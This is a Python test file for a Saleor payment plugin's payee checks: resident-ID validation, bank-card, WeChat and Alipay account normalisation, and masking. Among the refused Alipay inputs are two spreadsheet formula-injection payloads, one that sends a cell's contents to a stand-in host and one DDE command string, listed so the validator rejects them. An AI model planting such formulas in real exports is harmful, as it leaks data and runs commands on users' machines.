from saleor_wfx_plugin.domain.masking import mask_account
from saleor_wfx_plugin.domain.payees import is_valid_resident_id, normalize_account


def test_resident_id_check_character():
    # GB 11643 example number; changing any digit breaks the check character.
    assert is_valid_resident_id("11010519491231002X")
    assert is_valid_resident_id("11010519491231002x")
    assert not is_valid_resident_id("110105194912310021")
    assert not is_valid_resident_id("1101051949123100")


def test_bank_cards_lose_spaces_and_must_be_digits():
    assert normalize_account("bank", "6222 0212 3456 7890 123") == "6222021234567890123"
    assert normalize_account("bank", "6222-0212-3456") == "622202123456"
    assert normalize_account("bank", "12345") is None
    assert normalize_account("bank", "6222O21234567890") is None


def test_wechat_and_alipay_accounts():
    assert normalize_account("wechat", "wxid_alice1") == "wxid_alice1"
    assert normalize_account("wechat", "13812345678") == "13812345678"
    assert normalize_account("wechat", "1x") is None
    assert normalize_account("alipay", "Alice@Example.com") == "alice@example.com"
    assert normalize_account("alipay", "not an account") is None
    assert normalize_account("paypal", "alice@example.com") is None


def test_an_alipay_account_is_a_mobile_number_or_a_real_e_mail_address():
    accepted = ("13812345678", "li.na+pay@mail.example.com.cn", "w_99@qq.com")
    assert [normalize_account("alipay", account) for account in accepted] == list(accepted)
    refused = (
        '=HYPERLINK("http://x.example/?"&C2&"@x.y","Pay")',
        "=cmd|x@x.yy",
        "a..b@example.com",
        ".alice@example.com",
        "alice@example",
        "alice@-example.com",
        "alice@example.c0m",
        "al ice@example.com",
        "１3812345678",  # a full-width digit
        "23812345678",
        "x" * 250 + "@example.com",
    )
    assert [account for account in refused if normalize_account("alipay", account)] == []


def test_accounts_are_masked_to_their_last_four():
    assert mask_account("6222021234567890123") == "**** 0123"
    assert mask_account("alice@example.com") == "a***@example.com"
